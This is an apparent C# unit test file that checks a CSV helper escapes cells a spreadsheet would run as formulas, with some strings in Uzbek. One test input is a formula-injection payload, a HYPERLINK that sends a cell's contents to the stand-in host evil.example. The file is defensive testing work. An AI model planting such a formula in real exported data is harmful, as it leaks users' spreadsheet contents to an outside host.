using VirtuOps.Application.Common.Csv;

namespace Application.UnitTests.Common;

public sealed class SpreadsheetCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Chegirma\")")]
    [InlineData("+998901234567")]
    [InlineData("-5% chegirma")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_value_a_spreadsheet_would_run_as_a_formula_is_written_behind_an_apostrophe(string value)
    {
        SpreadsheetCsv.ToCell(value).ShouldBe("'" + value);
        SpreadsheetCsv.FromCell(SpreadsheetCsv.ToCell(value)).ShouldBe(value);
    }

    [Theory]
    [InlineData("Salom, qanday yordam bera olaman?")]
    [InlineData("O‘zbekcha 'qo‘shtirnoq' bilan")]
    [InlineData("'Sitata' boshida")]
    [InlineData("1+1=2")]
    [InlineData("")]
    public void Other_values_are_written_as_they_are(string value)
    {
        SpreadsheetCsv.ToCell(value).ShouldBe(value);
        SpreadsheetCsv.FromCell(value).ShouldBe(value);
    }

    [Theory]
    [InlineData("'=1+1", "''=1+1")]
    [InlineData("''-1", "'''-1")]
    public void A_value_already_marked_as_text_keeps_its_apostrophes_through_a_round_trip(string value, string cell)
    {
        SpreadsheetCsv.ToCell(value).ShouldBe(cell);
        SpreadsheetCsv.FromCell(cell).ShouldBe(value);
    }

    [Fact]
    public void A_written_file_reads_back_cell_for_cell_and_a_typed_formula_cell_stays_text()
    {
        string[][] rows = [["=1+2", "@cmd"], ["oddiy", "-"], ["'=x", "a,\"b\"\nc"]];

        var csv = SpreadsheetCsv.Write(["questions", "answer"], rows);
        var read = SpreadsheetCsv.Read(csv);

        csv.ShouldStartWith("questions,answer\r\n'=1+2,'@cmd\r\n");
        read.Select(r => r.Cells).ShouldBe(rows);
        read.Select(r => r.Number).ShouldBe([2, 3, 4]);
        SpreadsheetCsv.Read("questions;answer\n=SUM(A1:A9);+1\n").ShouldHaveSingleItem().Cells.ShouldBe(["=SUM(A1:A9)", "+1"]);
    }
}
